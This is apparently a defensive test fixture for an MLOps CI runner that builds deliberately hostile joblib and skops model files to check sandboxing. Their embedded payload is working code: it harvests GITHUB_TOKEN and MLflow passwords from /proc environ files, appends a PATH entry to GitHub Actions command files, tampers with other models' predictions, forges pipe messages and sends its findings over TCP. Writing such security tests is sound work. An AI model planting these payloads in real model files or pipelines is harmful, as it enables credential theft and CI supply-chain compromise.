"""Model files that attack mlops-ci when they are loaded or called (issue 38), and the loopback
listener they report to.

A model file is code: a pickle runs what its author chose when it is unpickled, and a model's
``predict`` runs at every call. The payload here tries what such a file could try against the
process holding the registry password and the GitHub token: it reads its own environment, the
parent's ``/proc/<ppid>/environ`` and every other readable ``/proc/*/environ``, lists its
descriptors, appends to every runner command file (``GITHUB_ENV``…) whose path it knows or
finds, and writes a marker file outside its folder. It then sends what it found, as one JSON
line, to a TCP listener on loopback: the network is not isolated (docs/security.md), which
makes it the attacker's way out, and the test's way to read the findings wherever the payload
ran (the test process before the runner, a plain child, bubblewrap).

- :func:`hostile_pickle`: a joblib file whose unpickling defines ``Model`` (a LogisticRegression
  subclass, defined by value so that it survives the runner's own cloudpickle of it) and
  attacks in its ``__setstate__`` (every load) and in ``predict`` (every call); PLANT_LINK,
  TAMPER and FORGE are what more it may do there;
- :func:`hostile_skops`: a ``.skops`` Pipeline whose FunctionTransformer is
  ``functools.partial(builtins.eval, CODE, {})``: it attacks at every call.
"""

from __future__ import annotations

import functools
import json
import socketserver
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

SECRET_NAMES = ("GITHUB_TOKEN", "MLFLOW_TRACKING_PASSWORD", "MLOPS_ADMIN_TOKEN")
COMMAND_FILES = ("GITHUB_ENV", "GITHUB_PATH", "GITHUB_OUTPUT", "GITHUB_STEP_SUMMARY")
# What the payload appends to a command file: a later step would run the attacker's program.
APPENDED = "PATH=/tmp/evil-from-the-model"

ATTACK = r'''
import json as _json, os as _os, socket as _socket, sys as _sys

# shared by every copy of this code in a process (the skops payload runs it at each call)
_SENT = _sys.__dict__.setdefault("_hostile_model_sent", {})


def attack(phase):
    """What a model file can reach from where it runs, sent to the listener (twice per
    phase and process at most: importance calls predict many times)."""
    sent = _SENT.setdefault((_os.getpid(), PORT, phase), [0])
    if sent[0] >= 2:
        return
    sent[0] += 1
    found = {"phase": phase, "pid": _os.getpid(), "ppid": _os.getppid(), "cwd": _os.getcwd(),
             "own": {}, "environ": {}, "read": [], "cmdlines": [], "fds": [], "appended": [],
             "marker": False, "files": {}}
    for name, value in _os.environ.items():
        if name in NAMES or name.startswith(("GITHUB_", "MLFLOW_", "MLOPS_")):
            found["own"][name] = value
    for pid in [str(_os.getppid())] + sorted(p for p in _os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                found["cmdlines"].append(fh.read().replace(b"\0", b" ").decode("utf-8", "replace"))
            with open(f"/proc/{pid}/environ", "rb") as fh:
                data = fh.read()
        except OSError:
            continue
        found["read"].append(pid)
        hits = [e.decode("utf-8", "replace") for e in data.split(b"\0")
                if e.split(b"=", 1)[0].decode("utf-8", "replace") in NAMES
                or e.startswith(b"GITHUB_")]
        if hits:
            found["environ"][pid] = hits
    for fd in _os.listdir("/proc/self/fd"):
        try:
            found["fds"].append(_os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    targets = set(FILES)  # the runner's paths are no secret: an attacker may know them
    named = [f"{k}={v}" for k, v in found["own"].items()]
    named += [e for hits in found["environ"].values() for e in hits]
    for entry in named:
        key, _, value = entry.partition("=")
        # only the test's own runner files: unsandboxed, /proc shows the processes of every
        # test running beside this one (an act job's GITHUB_ENV), which are not the target
        if key in COMMAND_FILES and _os.path.dirname(value) in HOMES:
            targets.add(value)
    for path in sorted(targets):
        try:
            with open(path, "a") as fh:
                fh.write(APPENDED + "\n")
            found["appended"].append(path)
        except OSError:
            pass
    try:
        with open(MARKER, "w") as fh:
            fh.write("planted by a model file")
        found["marker"] = True
    except OSError:
        pass
    top = _os.getcwd()
    for root, dirs, files in _os.walk(top):  # the runner's folder: the files it was given
        if root.count(_os.sep) - top.count(_os.sep) >= 3:
            dirs.clear()
        for name in files:
            if name == LINK_NAME:
                with open(_os.path.join(root, name), "rb") as fh:
                    found["files"][name] = fh.read().decode("utf-8", "replace")
    said = _json.dumps(found)
    print("model payload found:", said, file=_sys.stderr)
    try:
        with _socket.create_connection(("127.0.0.1", PORT), timeout=10) as sock:
            sock.sendall(said.encode() + b"\n")
    except OSError:
        pass
'''

MODEL = r"""
from sklearn.linear_model import LogisticRegression as _Fitted


def on_load():  # what more it does: the snippets below define their own
    pass


def on_predict():
    pass


class Model(_Fitted):
    def __setstate__(self, state):
        attack("load")
        on_load()
        super().__setstate__(state)

    def predict(self, X):
        attack("predict")
        on_predict()
        return super().predict(X)


def make(state):
    model = Model.__new__(Model)
    model.__setstate__(state)
    return model
"""

# In the runner's child the worker is ``__main__``: this wraps its save_mlflow so the MLflow
# folder it saves holds a link to ``/proc/self/environ``, a path whose meaning is the process
# that follows it.
PLANT_LINK = r"""
def on_load():
    import mlflow.sklearn as _flavor

    if getattr(_flavor, "_linked", False):
        return
    save = _flavor.save_model

    def save_with_a_link(model, path, *args, **kwargs):
        out = save(model, path, *args, **kwargs)
        _os.symlink("/proc/self/environ", _os.path.join(str(path), LINK_NAME))
        return out

    _flavor.save_model = save_with_a_link
    _flavor._linked = True
"""

# Every other LogisticRegression of the process (the production model compare loads beside
# this candidate) predicts its first class.
TAMPER = r"""
def on_load():
    from sklearn.linear_model import LogisticRegression as plain

    if getattr(plain, "_tampered", False):
        return
    honest = plain.predict

    def predict(self, X):
        if type(self) is plain:
            return __import__("numpy").full(len(X), self.classes_[0])
        return honest(self, X)

    plain.predict = predict
    plain._tampered = True
"""

# An answer of its own on the runner's pipe (whichever of its pipes it may write), ahead of
# the worker's: one the parent cannot decode.
FORGE = r"""
def on_predict():
    import struct
    header = {"ok": True, "arrays": 1,
              "values": {"y": {"t": "array", "a": 0, "dtype": [["a", "|O"]], "shape": [1]}}}
    body = _json.dumps(header).encode()
    message = struct.pack("<Q", len(body)) + body + struct.pack("<Q", 8) + bytes(8)
    for fd in _os.listdir("/proc/self/fd"):
        try:
            if _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                _os.write(int(fd), message)
        except OSError:
            pass
"""
LINK_NAME = "notes.txt"


@dataclass
class Listener:
    """A TCP listener on loopback collecting the payloads' JSON lines (``findings``)."""

    findings: list[dict[str, Any]] = field(default_factory=list)

    def __post_init__(self) -> None:
        collected = self.findings

        class Handler(socketserver.StreamRequestHandler):
            def handle(self) -> None:
                for line in self.rfile:
                    collected.append(json.loads(line))

        self.server = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = int(self.server.server_address[1])
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()

    def wait_for(self, *phases: str, timeout: float = 10) -> list[dict[str, Any]]:
        """The findings once each of ``phases`` reported (a payload's send may still be in
        flight when the call that ran it returned); all of them after ``timeout`` regardless."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            if set(phases) <= {f["phase"] for f in self.findings}:
                break
            time.sleep(0.05)
        return list(self.findings)

    def wait_for_more(self, than: int, timeout: float = 10) -> list[dict[str, Any]]:
        """The findings once there are more than ``than`` of them (or after ``timeout``)."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline and len(self.findings) <= than:
            time.sleep(0.05)
        return list(self.findings)


@dataclass(frozen=True)
class Target:
    """What the payload is told: where to report, the command files and the marker to try."""

    port: int
    files: tuple[str, ...]
    marker: str

    def code(self, *parts: str) -> str:
        constants = {
            "PORT": self.port,
            "FILES": list(self.files),
            "HOMES": sorted({str(Path(f).parent) for f in self.files}),
            "MARKER": self.marker,
            "NAMES": list(SECRET_NAMES),
            "COMMAND_FILES": list(COMMAND_FILES),
            "APPENDED": APPENDED,
            "LINK_NAME": LINK_NAME,
        }
        header = "".join(f"{name} = {value!r}\n" for name, value in constants.items())
        return header + "".join(parts)


class _Unpickled:
    """Unpickled, runs ``code`` (which defines ``make``) and becomes ``make(state)``."""

    def __init__(self, code: str, state: dict[str, Any]) -> None:
        self.code = code
        self.state = state

    def __reduce__(self) -> tuple[Any, ...]:
        scope = {"code": self.code, "state": self.state}
        return (eval, ("exec(code) or make(state)", scope))


def hostile_pickle(path: Path, fitted: Any, target: Target, more: str = "") -> Path:
    """A joblib file of ``fitted`` (a LogisticRegression) that attacks when it is loaded and
    when it predicts, and does ``more`` (PLANT_LINK, TAMPER or FORGE)."""
    import joblib

    code = target.code(ATTACK, MODEL, more)
    joblib.dump(_Unpickled(code, fitted.__getstate__()), path)
    return path


def hostile_skops(path: Path, x: Any, y: Any, target: Target) -> Path:
    """A ``.skops`` Pipeline fitted on ``x, y`` whose first step is
    ``FunctionTransformer(functools.partial(eval, CODE, {}))``: each call attacks, then
    passes its rows on (``eval``'s locals are the rows: the frame's ``f_locals``)."""
    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    pipeline = Pipeline(
        [("features", FunctionTransformer()), ("model", LogisticRegression(max_iter=1000))]
    ).fit(x, y)
    code = target.code(ATTACK, 'attack("predict")\n')
    source = f"exec({code!r}, {{}}) or __import__('sys')._getframe(0).f_locals"
    # set after fitting: the test's own fit must not run the payload here
    pipeline.steps[0][1].func = functools.partial(eval, source, {})
    skops.io.dump(pipeline, path)
    return path
